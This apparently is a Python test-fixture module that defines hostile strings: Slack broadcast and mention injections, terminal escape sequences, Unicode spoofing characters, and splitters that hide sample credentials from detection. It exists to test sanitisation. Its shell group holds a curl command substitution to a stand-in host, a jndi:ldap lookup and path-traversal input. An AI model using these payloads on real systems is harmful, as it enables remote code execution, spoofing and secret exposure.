"""Hostile texts: what takes over Slack's mrkdwn, a terminal or a reader's eyes where it is passed on as it came.

Each carries a canary, by which the oracles find it again: letters and digits alone, so that nothing has cause to change
it.
"""

# ruff: noqa: E501 - tables

from collections.abc import Callable
from typing import NamedTuple

CANARY = "c4n4ry"
"""How each canary begins; digits follow."""
HOST = "evil.example"

SECRETS = (
    ("AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    ("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    ("DB_PASSWORD=hunter2hunter2 ", "hunter2hunter2"),
    ("postgres://admin:s3cr3tpassw0rd@db.internal/orders", "s3cr3tpassw0rd"),
    ("ghp_16C7e42F292c6912E7710c838347Ae178B4a", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
    ("authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl", "eyJzdWIiOiIxMjMifQ"),
)
"""What a message may hold, and the part of it that must never be shown."""

SPLITTERS = (
    "\u200b", "\x00", "\x1b[31m", "\x1b[0m", "\u202e", "\u2066", "\x9b1m", "\u00ad", "\u2060", "\ufeff", "\u200c", "\u200d",
    "\u034f", "\x07", "\x7f", "\U000e0041", "\ufe0f", "\u180e", "\u3164", "\x1b]8;;\x1b\\", "\x08", "\ud800\x08", "\u061c",
)  # fmt: skip
"""Invisible where they are shown as they are: they hide a secret from a pattern, and not from a reader."""


class Injection(NamedTuple):
    """What is tried, and the text that tries it."""

    what: str
    text: Callable[[str], str]


MRKDWN = (
    Injection("broadcast", lambda c: f"<!channel|{c}>"),
    Injection("broadcast without a label", lambda c: f"<!here> {c} <!everyone>"),
    Injection("bare broadcast", lambda c: f"@channel {c} @here @everyone"),
    Injection("mention", lambda c: f"<@U0EV1L123> {c} <@W0EV1L123|{c}>"),
    Injection("group", lambda c: f"<!subteam^S0EV1L123|{c}>"),
    Injection("channel link", lambda c: f"<#C0EV1L123|{c}>"),
    Injection("link", lambda c: f"<https://{HOST}/{c}|ok>"),
    Injection("mail link", lambda c: f"<mailto:{c}@{HOST}|{c}>"),
    Injection("bare link", lambda c: f"https://{HOST}/{c}"),
    Injection("date", lambda c: f"<!date^1392734382^{{date}}^https://{HOST}/|{c}>"),
    Injection("escaped twice", lambda c: f"&amp;lt;!channel|{c}&amp;gt; &lt;!here|{c}&gt;"),
    Injection("numeric entities", lambda c: f"&#60;!channel|{c}&#62; &#x3c;!here&#x3e;"),
    Injection("fence", lambda c: f"```\n{c}\n``` <!channel|{c}>"),
    Injection("open fence", lambda c: f"```` {c}"),
    Injection("code", lambda c: f"`{c} <!channel>`` {c}`"),
    Injection("bold", lambda c: f"*{c}* _{c}_ ~{c}~ *{c} {c}*"),
    Injection("emoji", lambda c: f":rotating_light:{c}:skull:"),
    Injection("quotation", lambda c: f"\n> {c}\n>>> {c}\n&gt; {c}"),
    Injection("list", lambda c: f"\n• {c}\n1. {c}\n- {c}"),
    Injection("link that wants to end ours", lambda c: f"|{c}> <!channel> <https://{HOST}|{c}"),
    Injection("half an escape", lambda c: f"&lt{c}&;&amp <{c}"),
)

TERMINAL = (
    Injection("title", lambda c: f"\x1b]0;{c}\x07\x1b]2;{c}\x1b\\"),
    Injection("hyperlink", lambda c: f"\x1b]8;;https://{HOST}/{c}\x1b\\{c}\x1b]8;;\x1b\\"),
    Injection("clipboard", lambda c: f"\x1b]52;c;ZXZpbA==\x07{c}"),
    Injection("colour", lambda c: f"\x1b[31m{c}\x1b[0m \x9b31m{c}\x9b0m"),
    Injection("cursor", lambda c: f"\x1b[2J\x1b[H{c}\x1b[1A\x1b[2K"),
    Injection("carriage return", lambda c: f"CONFIRMED: {c}\rRESOLVED \x08\x08\x08{c}"),
    Injection("bell", lambda c: f"\x07{c}\x07"),
    Injection("sequence without an end", lambda c: f"\x1b]0;{c}"),
    Injection("sequence that begins at the end", lambda c: f"{c}\x1b["),
    Injection("nested sequence", lambda c: f"\x1b\x1b[[31m{c}\x1b[\x1b[0m0m"),
    Injection(
        "sequence split by what is taken out", lambda c: f"\x1b\u200b[31m{c} \x1b\x00]0;{c}\x07 \u202e\x9b\u200b2J"
    ),
    Injection("DCS, APC, PM, SOS", lambda c: f"\x1bP{c}\x1b\\\x1b_{c}\x1b\\\x1b^{c}\x1b\\\x1bX{c}\x1b\\"),
    Injection("C1", lambda c: f"\x90{c}\x9c\x9d0;{c}\x9c\x85{c}\x84\x8d"),
    Injection("charset", lambda c: f"\x1b(0{c}\x0e{c}\x0f"),
    Injection("reset", lambda c: f"\x1bc{c}\x1b[!p"),
    Injection("rich markup", lambda c: f"[red]{c}[/red] [bold]{c}[/]"),
    Injection("rich link", lambda c: f"[link=https://{HOST}/{c}]{c}[/link]"),
    Injection("rich closing tag", lambda c: f"[/{c}] [/]{c}"),
    Injection("rich emoji and escape", lambda c: f":pile_of_poo:{c} \\[red]{c}"),
)

UNICODE = (
    Injection("right to left", lambda c: f"\u202e{c}\u202c \u2067{c}\u2069 \u200f{c}\u061c"),
    Injection("zero width", lambda c: f"\u200b{c}\ufeff\u2060{c}\u00ad"),
    Injection("joiners", lambda c: f"\u200d\u200c{c}\u200d👩\u200d🚒{c}"),
    Injection("lone surrogates", lambda c: f"\ud800{c}\udfff \udc00\ud800{c}"),
    Injection("null", lambda c: f"\x00{c}\x00"),
    Injection("controls", lambda c: "".join(map(chr, range(32))) + c + "".join(map(chr, range(0x7F, 0xA0)))),
    Injection("accents", lambda c: c + "e" + "\u0301\u0334\u0489" * 60),
    Injection("accents that begin", lambda c: "\u0300\u20dd" + c),
    Injection("line ends", lambda c: f"{c}\u2028{c}\u2029{c}\x0b{c}\x0c{c}\x85{c}\r\n{c}\r{c}"),
    Injection("tags", lambda c: "".join(chr(0xE0000 + ord(one)) for one in "evil") + c),
    Injection("look-alikes of angles", lambda c: f"＜!channel｜{c}＞ ‹!here› \uff1c@U0EV1L123\uff1e"),
    Injection("private use and non-characters", lambda c: f"\ue000{c}\ufffe\uffff\U0010ffff{c}\U000fffff"),
    Injection("blanks", lambda c: f"\u3164{c}\u115f\u2800{c}\u00a0\u3000"),
    Injection("wide", lambda c: f"ﷺ𒐫{c}꧅"),
    Injection("spaces", lambda c: f"   \t\t \n\n\n {c} \n"),
)

SHELL = (
    Injection("command", lambda c: f"$(curl {HOST}/{c}) `{c}` ; {c} && {c}"),
    Injection("quotes", lambda c: f"'{c}\" \\' \\\" {c}\\"),
    Injection("format", lambda c: f"%s%n{{{c}}}{{0.__class__}} %({c})s ${{jndi:ldap://{HOST}/{c}}}"),
    Injection("path", lambda c: f"../../{c}/..%2f..%00"),
    Injection("JSON", lambda c: f'"}}],"{c}":{{"a":["'),
)

INJECTIONS = (*MRKDWN, *TERMINAL, *UNICODE, *SHELL)


def hostile(number: int, canary: int) -> str:
    """The hostile text of that number, counted round; secrets hidden by what splits them are among them."""
    number %= len(INJECTIONS) + len(SECRETS)
    if number < len(INJECTIONS):
        return INJECTIONS[number].text(f"{CANARY}{canary}")
    whole, _ = SECRETS[number - len(INJECTIONS)]
    splitter = SPLITTERS[canary % len(SPLITTERS)]
    places = range(4, len(whole), 5)
    return f" {''.join(splitter * (place in places) + character for place, character in enumerate(whole))} "
